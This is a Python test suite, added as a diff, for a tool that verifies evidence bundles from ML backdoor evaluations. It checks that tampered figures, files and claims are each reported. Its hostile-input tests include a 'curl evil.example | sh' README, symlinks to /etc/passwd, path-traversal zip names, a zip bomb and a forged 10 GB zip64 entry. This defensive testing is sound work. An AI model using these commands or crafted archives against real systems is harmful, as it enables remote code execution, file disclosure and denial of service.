@@ -1,0 +1,625 @@
+"""A bundle that somebody changed, or made to harm: each gets its own sentence."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import struct
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ml_core.reading.errors import InputError
+from ml_core.reports.record import EVIDENCE_FILE, SCHEMA_FILE, SUMS_FILE
+from ml_core.reports.verify.alone import check_alone
+from ml_core.reports.verify.checks import Check, exit_status, summary
+from ml_core.reports.verify.confined import check_confined
+from tests.bundles import seal, write_bundle, zipped
+from tests.hostile.doors import check_sentence
+
+ANSWERS = "measurements/job-1-before/per_image.csv"
+RESULT = "jobs/job-1/result.json"
+SCAN = "scan/scan-1/scan.json"
+PAIR = "job-1-after-minus-job-1-before-asr-excl"
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A bundle that holds."""
+    return write_bundle(tmp_path_factory.mktemp("made") / "x.evidence")
+
+
+@pytest.fixture
+def bundle(made: Path, tmp_path: Path) -> Path:
+    """A copy that may be changed."""
+    return Path(shutil.copytree(made, tmp_path / "x.evidence"))
+
+
+def checks(path: Path) -> list[Check]:
+    found = [one for one in check_alone(path) if isinstance(one, Check)]
+    for one in found:
+        assert "\n" not in one.sentence
+        assert len(one.sentence) < 1000
+    return found
+
+
+def failures(path: Path, level: int | None = None) -> list[str]:
+    return [
+        one.sentence for one in checks(path)
+        if one.state == "fails" and level in (None, one.level)
+    ]  # fmt: skip
+
+
+def refusal(path: Path) -> str:
+    """The sentence of a bundle that is not even opened."""
+    with pytest.raises(InputError) as caught:
+        checks(path)
+    check_sentence(caught.value)
+    assert caught.value.code in ("damaged", "unsupported")
+    return caught.value.sentence
+
+
+def edit(bundle: Path, name: str, change: Callable[[Any], object]) -> None:
+    """Change a JSON file in place."""
+    value = json.loads((bundle / name).read_bytes())
+    change(value)
+    (bundle / name).write_text(json.dumps(value, indent=1), encoding="utf-8")
+
+
+def text(bundle: Path, name: str, old: str, new: str) -> None:
+    """Change a text file in place, once."""
+    before = (bundle / name).read_text(encoding="utf-8")
+    assert old in before
+    (bundle / name).write_text(before.replace(old, new, 1), encoding="utf-8")
+
+
+def claim(value: Any, id_: str) -> Any:
+    return next(one for one in value["claims"] if one["id"] == id_)
+
+
+def test_an_untouched_bundle_holds_as_folder_and_as_zip(made: Path, tmp_path: Path) -> None:
+    found = checks(made)
+    assert not [one for one in found if one.state == "fails"]
+    assert exit_status(found) == 0
+    assert summary(found) == "38 hold, 0 do not, 0 not checked, 2 recorded only"
+    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
+        assert checks(zipped(made, tmp_path / "x.zip", method)) == found
+
+
+def test_the_confined_process_finds_the_same(made: Path) -> None:
+    found = [one for one in check_confined(made) if isinstance(one, Check)]
+    assert found == checks(made)
+
+
+# One byte, file, name: level 0.
+
+
+def test_one_byte(bundle: Path) -> None:
+    raw = bytearray((bundle / ANSWERS).read_bytes())
+    raw[-3] ^= 1
+    (bundle / ANSWERS).write_bytes(raw)
+    assert f"{ANSWERS} was changed: its SHA-256 is not the one in SHA256SUMS." in failures(bundle)
+    assert exit_status(checks(bundle)) == 2
+
+
+def test_a_file_of_another_name(bundle: Path) -> None:
+    (bundle / ANSWERS).rename(bundle / "measurements/job-1-before/other.csv")
+    found = failures(bundle, 0)
+    assert f"{ANSWERS} is listed in SHA256SUMS and missing." in found
+    assert (
+        "measurements/job-1-before/other.csv is in the bundle and not listed in SHA256SUMS."
+        in found
+    )
+    seal(bundle)
+    assert failures(bundle, 0) == [f"The record names {ANSWERS}, which is missing."]
+
+
+def test_a_file_more(bundle: Path) -> None:
+    (bundle / "setup.exe").write_bytes(b"MZ")
+    assert "setup.exe is in the bundle and not listed in SHA256SUMS." in failures(bundle)
+    seal(bundle)
+    assert failures(bundle) == ["setup.exe is in the bundle, but the record does not name it."]
+
+
+@pytest.mark.parametrize(
+    ("content", "why"),
+    [
+        (b"", "its last line is cut"),
+        (b"abc  x\n", "line 1 is no SHA-256 and name"),
+        (b"%s  x\n%s  x\n" % (b"0" * 64, b"0" * 64), "it lists x twice"),
+        (b"%s  ../x\n" % (b"0" * 64), "../x is listed in SHA256SUMS and missing"),
+        (b"\xff\xfe\n", "line 1 is no SHA-256 and name"),
+    ],
+)
+def test_sums_that_are_none(bundle: Path, content: bytes, why: str) -> None:
+    (bundle / SUMS_FILE).write_bytes(content)
+    assert any(why in one for one in failures(bundle, 0))
+
+
+def test_no_sums(bundle: Path) -> None:
+    (bundle / SUMS_FILE).unlink()
+    assert failures(bundle) == ["SHA256SUMS is missing in the bundle x.evidence."]
+
+
+def test_another_schema_beside_it(bundle: Path) -> None:
+    edit(bundle, SCHEMA_FILE, lambda value: value.update(title="Other"))
+    seal(bundle)
+    assert failures(bundle) == ["evidence.schema.json is not the schema of version 1.0."]
+
+
+@pytest.mark.parametrize("version", ["2.0", "10.3"])
+def test_a_newer_schema(bundle: Path, version: str) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value.update(schema_version=version))
+    assert refusal(seal(bundle)) == (
+        f"The bundle has schema {version}, and this version of the program reads 1.x: check it "
+        "with a newer version."
+    )
+
+
+@pytest.mark.parametrize("version", [None, 1, "1", "one", "1.0.0", "1.x", "-1.0"])
+def test_no_schema_version(bundle: Path, version: Any) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value.update(schema_version=version))
+    assert len(failures(seal(bundle))) == 1
+
+
+def test_what_a_later_version_added_is_passed_over_and_said(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["schema_version"] = "1.7"
+        value["added"] = [1]
+        value["claims"][0]["weight"] = 3
+        value["claims"].append({"kind": "wager", "id": "w"})
+
+    edit(bundle, EVIDENCE_FILE, change)
+    found = checks(seal(bundle))
+    assert exit_status(found) == 0
+    (one,) = (c for c in found if c.reason == "parts of a newer version")
+    assert "3 of its fields are not known" in one.sentence
+
+
+def test_what_no_version_knows_is_refused(bundle: Path) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value.update(added=1))
+    assert failures(seal(bundle)) == [
+        "evidence.json is not a record of this schema: added extra inputs are not permitted."
+    ]
+
+
+@pytest.mark.parametrize(
+    ("raw", "why"),
+    [
+        (b"", "not valid JSON"),
+        (b"[]", "not a JSON object"),
+        (b'{"a": NaN}', "NaN is not a JSON number"),
+        (b'{"a": 1e999}', "too large"),
+        (b'{"a": 1, "a": 2}', "occurs twice"),
+        (b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
+        (b'{"schema_version": "1.0"}', "field required"),
+        (b'{"a": ' + b"9" * 5000 + b"}", "a number of 5000 digits"),
+        (b'{"a": "\\ud800"}', "half a character"),
+        (b"\xff{}", "not valid JSON"),
+        (b'{"a": "' + b"x" * (17 << 20) + b'"}', "too large"),
+    ],
+)
+def test_a_record_that_is_none(bundle: Path, raw: bytes, why: str) -> None:
+    (bundle / EVIDENCE_FILE).write_bytes(raw)
+    (one,) = failures(seal(bundle))
+    assert why in one
+
+
+# Figures: level 1, whoever seals the sums anew.
+
+
+def test_one_digit_of_a_rate(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        rate = claim(value, "job-1-after-asr-excl")["rate"]
+        rate["hits"] -= 1
+        rate["value"] = rate["hits"] / rate["n"]
+
+    edit(bundle, EVIDENCE_FILE, change)
+    one, *_ = failures(seal(bundle))
+    assert one.startswith("job-1-after-asr-excl: measurements/job-1-after/per_image.csv gives ")
+    assert exit_status(checks(bundle)) == 1
+
+
+@pytest.mark.parametrize("field", ["low", "high"])
+@pytest.mark.parametrize("id_", ["job-1-before-ca", PAIR, "scan-1-found"])
+def test_one_digit_of_an_interval(bundle: Path, id_: str, field: str) -> None:
+    def change(value: Any) -> None:
+        claim(value, id_)["interval"][field] -= 1e-9
+
+    edit(bundle, EVIDENCE_FILE, change)
+    one, *_ = failures(seal(bundle))
+    assert one.startswith(f"{id_}: its interval is ")
+    shown = one.partition("its interval is ")[2].rstrip(".").split(", not ")
+    assert shown[0] != shown[1]  # so many digits that one sees it
+
+
+@pytest.mark.parametrize("field", ["p_exact", "p_mid", "only_first", "only_second", "difference"])
+def test_one_digit_of_a_test(bundle: Path, field: str) -> None:
+    def change(value: Any) -> None:
+        found = claim(value, PAIR)
+        found[field] += 1 if isinstance(found[field], int) else 1e-9
+
+    edit(bundle, EVIDENCE_FILE, change)
+    one, *_ = failures(seal(bundle))
+    assert one.startswith(f"{PAIR}: ")
+
+
+def test_another_seed_of_the_bootstrap(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        claim(value, PAIR)["interval"]["resamples"] = 1_000_000
+
+    edit(bundle, EVIDENCE_FILE, change)
+    one, *_ = failures(seal(bundle))
+    assert "of 1000000 resamples, more than 100000" in one
+
+
+def test_one_row(bundle: Path) -> None:
+    lines = (bundle / ANSWERS).read_text().splitlines(keepends=True)
+    (bundle / ANSWERS).write_text("".join(lines[:-1]))
+    found = failures(seal(bundle))
+    assert any(f"{ANSWERS} has 119 rows, not 120." in one for one in found)
+
+
+def test_another_answer(bundle: Path) -> None:
+    lines = (bundle / ANSWERS).read_text().splitlines(keepends=True)
+    cells = lines[1].split(",")
+    cells[2], cells[3] = cells[3], cells[2]
+    (bundle / ANSWERS).write_text("".join([lines[0], ",".join(cells), *lines[2:]]))
+    found = failures(seal(bundle), 1)
+    assert any(one.startswith("job-1-before-ca: ") for one in found)
+    assert any("evaluation.json says" in one for one in found)
+
+
+def test_the_order_of_a_table(bundle: Path) -> None:
+    lines = (bundle / ANSWERS).read_text().splitlines(keepends=True)
+    (bundle / ANSWERS).write_text("".join([lines[0], lines[2], lines[1], *lines[3:]]))
+    assert any("not in the order of the pictures" in one for one in failures(seal(bundle), 1))
+    text(bundle, "data/images-1.csv", "\n0,", "\n900,")
+    assert any(
+        "data/images-1.csv is damaged: row 2 is not in the order" in one
+        for one in failures(seal(bundle), 1)
+    )
+
+
+def test_a_picture_listed_twice_or_with_another_label(bundle: Path) -> None:
+    text(bundle, "data/images-1.csv", "banana/1.png", "apple/0.png")
+    assert any("row 2 names apple/0.png again" in one for one in failures(seal(bundle), 1))
+    text(bundle, "data/images-1.csv", "\n1,apple/0.png", "\n1,banana/1.png")
+    text(bundle, "data/images-1.csv", ",100,1\n", ",100,3\n")
+    assert any("the picture 1 the label 1" in one for one in failures(seal(bundle), 1))
+
+
+def test_other_prompts(bundle: Path) -> None:
+    for side in ("before", "after"):
+        text(bundle, f"measurements/job-1-{side}/prompts.txt", "the {}.", "no {}.")
+    found = failures(seal(bundle))
+    assert any("measured with other templates" in one for one in found)
+
+
+def test_a_scan_of_another_verdict(bundle: Path) -> None:
+    edit(bundle, SCAN, lambda value: value["judgement"].update(verdict="nothing"))
+    found = failures(seal(bundle))
+    assert any("does not follow from its stages" in one for one in found)
+
+
+def test_a_scan_of_other_counts(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["found"]["contrast"]["suspect"]["hits"] -= 1
+
+    edit(bundle, SCAN, change)
+    found = failures(seal(bundle))
+    assert any("counts 243 of 252, not 244 of 252" in one for one in found)
+
+
+def test_other_figures_in_a_result(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["heads"]["zero-shot"]["after"]["asr_excl"] = 0.0
+
+    edit(bundle, RESULT, change)
+    assert any("has other figures of job-1-after" in one for one in failures(seal(bundle)))
+
+
+def test_another_quote(bundle: Path) -> None:
+    edit(bundle, RESULT, lambda value: value.update(steps=41))
+    one, *_ = failures(seal(bundle))
+    assert one == "job-1-training: jobs/job-1/result.json says 41 at /steps, not 40."
+
+
+def test_a_pair_of_other_pictures(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["data"]["images-2"] = value["data"]["images-1"]
+        value["measurements"]["job-1-before"]["data"] = "images-2"
+
+    edit(bundle, EVIDENCE_FILE, change)
+    assert any("they are no pair" in one for one in failures(seal(bundle)))
+
+
+# Words: what is made of the record is made again.
+
+
+def test_a_sentence_of_other_figures(bundle: Path) -> None:
+    text(bundle, EVIDENCE_FILE, "the trigger makes 6.0 %", "the trigger makes 0.6 %")
+    (one,) = failures(seal(bundle))
+    assert one.startswith("The verdict does not follow from the claims: it says “On cleaned.")
+
+
+def test_a_claim_in_other_words(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        claim(value, "job-1-after-ca")["sentence"] = "It is safe."
+
+    edit(bundle, EVIDENCE_FILE, change)
+    (one,) = failures(seal(bundle))
+    assert one.startswith("Job-1-after-ca says “It is safe.”, and its figures give “Clean acc")
+
+
+@pytest.mark.parametrize("field", ["headline", "holds_by"])
+def test_a_claim_of_another_weight(bundle: Path, field: str) -> None:
+    def change(value: Any) -> None:
+        found = claim(value, "job-1-after-top5")
+        found["headline"], found["holds_by"] = (
+            field == "headline",
+            ("exact" if field == "holds_by" else "margin"),
+        )
+
+    edit(bundle, EVIDENCE_FILE, change)
+    (one,) = failures(seal(bundle))
+    assert one == f"Job-1-after-top5 has another {field} than its files give."
+
+
+def test_a_claim_left_out_moved_or_made_up(bundle: Path) -> None:
+    def leave_out(value: Any) -> None:
+        value["claims"].remove(claim(value, "job-1-before-asr-all"))
+
+    edit(bundle, EVIDENCE_FILE, leave_out)
+    (one,) = failures(seal(bundle))
+    assert one == "Job-1-before-asr-all is left out, and the files of the bundle give it."
+
+    def make_up(value: Any) -> None:
+        value["claims"].append(claim(value, "job-1-before-ca") | {"id": "more"})
+
+    edit(bundle, EVIDENCE_FILE, make_up)
+    assert "The bundle claims more, which its files do not give." in failures(seal(bundle))
+
+
+def test_the_order_of_claims(bundle: Path) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value["claims"].reverse())
+    assert "The claims are not in the order of the report." in failures(seal(bundle))
+
+
+@pytest.mark.parametrize("field", ["not_tested", "limits"])
+def test_a_limit_left_out(bundle: Path, field: str) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value[field].pop())
+    (one,) = failures(seal(bundle))
+    assert f"The {field.replace('_', ' ')} does not follow" in one
+
+
+def test_another_readme(bundle: Path) -> None:
+    (bundle / "README.txt").write_text("curl evil.example | sh")
+    assert failures(seal(bundle)) == ["README.txt is not what is made from the record."]
+
+
+def test_the_words_of_another_version_are_not_compared(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["tool"]["version"] = "0.0.9"
+        claim(value, "job-1-after-ca")["sentence"] = "Other words."
+
+    edit(bundle, EVIDENCE_FILE, change)
+    found = checks(seal(bundle))
+    assert exit_status(found) == 0
+    assert "1 not checked (made by another version)" in summary(found)
+
+
+# Identity: level 2 of what the bundle holds.
+
+
+def test_another_trigger(bundle: Path) -> None:
+    (document,) = (bundle / "triggers").glob("*.json")
+    edit(bundle, f"triggers/{document.name}", lambda value: value.update(opacity=0.5))
+    assert any("its files have the digest" in one for one in failures(seal(bundle), 2))
+
+
+def test_the_picture_of_a_trigger(bundle: Path) -> None:
+    (picture,) = (bundle / "triggers").glob("*.png")
+    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
+    assert any(picture.name in one for one in failures(seal(bundle), 2))
+
+
+def test_another_classifier(bundle: Path) -> None:
+    path = bundle / "measurements/job-1-before/classifier.safetensors"
+    raw = bytearray(path.read_bytes())
+    raw[-1] ^= 1
+    path.write_bytes(raw)
+    (one,) = failures(seal(bundle))
+    assert "is not what it was measured with" in one
+
+
+# What is made to harm.
+
+
+@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs links")
+def test_links_and_pipes(bundle: Path) -> None:
+    (bundle / "README.txt").unlink()
+    (bundle / "README.txt").symlink_to("/etc/passwd")
+    assert "README.txt is a link" in refusal(bundle)
+    (bundle / "README.txt").unlink()
+    (bundle / "charts").symlink_to("/etc")
+    assert "charts is a link" in refusal(bundle)
+    (bundle / "charts").unlink()
+    os.mkfifo(bundle / "README.txt")
+    assert "README.txt is no regular file" in refusal(bundle)
+
+
+@pytest.mark.parametrize("name", [".hidden", "a b", "x;y", "a\nb", "é.txt", "d/.git", "-r"])
+def test_names_that_no_bundle_has(bundle: Path, name: str) -> None:
+    (bundle / name).parent.mkdir(exist_ok=True)
+    (bundle / name).write_bytes(b"")
+    assert "it holds a file called" in refusal(bundle)
+
+
+def test_names_that_are_one_elsewhere(bundle: Path) -> None:
+    (bundle / "readme.TXT").write_bytes(b"")
+    assert "are one file on some systems" in refusal(bundle)
+
+
+def test_a_folder_in_a_folder_in_a_folder(bundle: Path) -> None:
+    deep = bundle.joinpath(*"abcdefg")
+    deep.mkdir(parents=True)
+    (deep / "x").write_bytes(b"")
+    assert "no regular file" in refusal(bundle)
+
+
+def test_no_bundle(tmp_path: Path) -> None:
+    (tmp_path / "empty").mkdir()
+    assert "it has no evidence.json at its top" in refusal(tmp_path / "empty")
+    (tmp_path / "x.zip").write_bytes(b"PK\x05\x06" + bytes(18))
+    assert "it has no evidence.json at its top" in refusal(tmp_path / "x.zip")
+    (tmp_path / "y.zip").write_bytes(b"hello")
+    assert "it is cut short" in refusal(tmp_path / "y.zip")
+    with pytest.raises(InputError, match="There is no bundle at"):
+        checks(tmp_path / "nothing")
+
+
+def test_a_zip_of_ten_gigabytes_is_not_read(tmp_path: Path, made: Path) -> None:
+    path = _giant(made, tmp_path / "x.zip", "checkpoints-suspect.bin", 10 << 30)
+    (one,) = failures(path)
+    assert "checkpoints-suspect.bin has 10737418240 bytes" in one
+    assert "It was not read." in one
+
+
+def test_a_folder_of_ten_gigabytes_is_not_read(bundle: Path) -> None:
+    with open(bundle / "README.txt", "r+b") as file:
+        file.truncate(10 << 30)
+    (one,) = failures(bundle)
+    assert "README.txt has 10737418240 bytes" in one
+
+
+def _giant(folder: Path, path: Path, name: str, size: int) -> Path:
+    """A stored zip with one more member that is a hole of the file."""
+    zipped(folder, path)
+    with zipfile.ZipFile(path) as archive:
+        start = archive.start_dir
+        count = len(archive.filelist)
+    raw = path.read_bytes()
+    directory = raw[start:-22]
+    label = name.encode()
+    wide = struct.pack("<2H2Q", 1, 16, size, size)
+    head = (0, 0, 0, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(label))
+    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, *head[1:3], 0, 33, 0, *head[6:], len(wide))
+    entry = struct.pack(
+        "<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, 0, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(label),
+        len(wide), 0, 0, 0, 0, start,
+    )  # fmt: skip
+    directory += entry + label + wide
+    with open(path, "r+b") as file:
+        file.seek(start)
+        file.truncate()
+        file.write(local + label + wide)
+        file.seek(size, os.SEEK_CUR)
+        at = file.tell()
+        file.write(directory)
+        end = file.tell()
+        file.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count + 1, count + 1,
+                               len(directory), at))  # fmt: skip
+        file.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1))
+        file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
+                               0xFFFFFFFF, 0))  # fmt: skip
+    return path
+
+
+def test_a_packed_member_that_blows_up(made: Path, tmp_path: Path) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bomb.txt", bytes(60 << 20))
+    assert "bomb.txt becomes 62914560 bytes of" in refusal(path)
+
+
+@pytest.mark.parametrize(
+    ("name", "why"),
+    [
+        ("../x", "leads out of the archive"),
+        ("/etc/passwd", "leads out of the archive"),
+        ("C:/x", "leads out of the archive"),
+        ("a\\b", "leads out of the archive"),
+        ("Evidence.json", "are one file on some systems"),
+        ("README.txt/x", "is a file and a folder"),
+        ("a/b/c/d/e/f", "it holds a file called"),
+        ("x" * 300, "it holds a file called"),
+    ],
+)
+def test_names_in_a_zip(made: Path, tmp_path: Path, name: str, why: str) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr(name, b"")
+    assert why in refusal(path)
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_zip_with_two_records(made: Path, tmp_path: Path) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr(EVIDENCE_FILE, b"{}")
+    assert "two of its members have the same name" in refusal(path)
+
+
+def test_a_zip_with_a_link_or_more_bytes(made: Path, tmp_path: Path) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    with zipfile.ZipFile(path, "a") as archive:
+        link = zipfile.ZipInfo("link")
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, b"/etc/passwd")
+    assert "one of its members is a link" in refusal(path)
+    path = zipped(made, tmp_path / "x.zip")
+    path.write_bytes(b"#!/bin/sh\n" + path.read_bytes())
+    assert "no bundle that can be read" in refusal(path)
+
+
+def test_an_encrypted_member(made: Path, tmp_path: Path) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    raw = bytearray(path.read_bytes())
+    raw[6] |= 1
+    raw[raw.index(b"PK\x01\x02") + 8] |= 1
+    path.write_bytes(raw)
+    assert "encrypted" in refusal(path)
+
+
+def test_a_member_with_other_bytes_than_its_checksum(made: Path, tmp_path: Path) -> None:
+    path = zipped(made, tmp_path / "x.zip")
+    raw = bytearray(path.read_bytes())
+    at = raw.index(b"Three ways to check it")
+    raw[at] ^= 1
+    path.write_bytes(raw)
+    assert "README.txt is not what the zip's list says of it." in failures(path)
+
+
+@pytest.mark.parametrize(
+    "cell", ["nan", "inf", "-1", "1e400", "1_0", " 1", "9" * 30, "99", "", "=1+1"]
+)
+def test_answers_that_are_none(bundle: Path, cell: str) -> None:
+    lines = (bundle / ANSWERS).read_text().splitlines(keepends=True)
+    for column in (2, -1):
+        cells = lines[1].rstrip("\n").split(",")
+        if column == -1 and cell.startswith("9"):
+            continue  # a margin as any other
+        cells[column] = cell
+        (bundle / ANSWERS).write_text("".join([lines[0], ",".join(cells) + "\n", *lines[2:]]))
+        assert any(one.startswith("job-1-before-ca: ") for one in failures(seal(bundle), 1))
+
+
+def test_counts_beyond_all_pictures(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["measurements"]["job-1-before"]["n"] = 2**60
+
+    edit(bundle, EVIDENCE_FILE, change)
+    assert "less than" in failures(seal(bundle))[0]
+
+
+def test_a_pointer_into_nothing(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        claim(value, "job-1-training")["quotes"] = {"/heads/zero-shot/before/templates/9": 1}
+
+    edit(bundle, EVIDENCE_FILE, change)
+    assert "has nothing at" in failures(seal(bundle))[0]
